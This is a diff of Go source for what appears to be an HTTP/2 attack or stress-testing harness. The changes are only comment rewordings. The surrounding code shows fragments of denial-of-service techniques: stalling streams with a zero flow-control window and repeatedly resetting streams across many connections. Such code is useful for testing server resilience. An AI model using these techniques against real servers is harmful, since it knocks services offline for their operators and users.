@@ -77,7 +77,7 @@ type http2Conn struct {
 	next    uint32 // stream to open
 }
 
-// dialHTTP2 opens a connection and sends what begins it.
+// dialHTTP2 opens a connection and sends the preface.
 func (a *attacker) dialHTTP2(ctx context.Context, settings ...http2.Setting) (*http2Conn, error) {
 	conn, err := a.dial(ctx, "h2")
 	if err != nil {
@@ -138,7 +138,7 @@ func resets(ctx context.Context, a *attacker) {
 	})
 }
 
-// stall keeps streams open, whose replies it never takes: the window is 0.
+// stall keeps streams open, and never takes their replies: the window is 0.
 func (a *attacker) stall(ctx context.Context, conns, streams int) {
 	hammer(ctx, conns, func(int, int) bool {
 		c, err := a.dialHTTP2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
@@ -180,7 +180,7 @@ func (a *attacker) hold(ctx context.Context, c *http2Conn, streams int) {
 			if c.framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
 				return
 			}
-			pause(ctx, time.Millisecond) // a refused stream costs nobody much: no use in a busy loop
+			pause(ctx, time.Millisecond) // a refused stream costs little: no use in a busy loop
 		case <-ctx.Done():
 			return
 		}
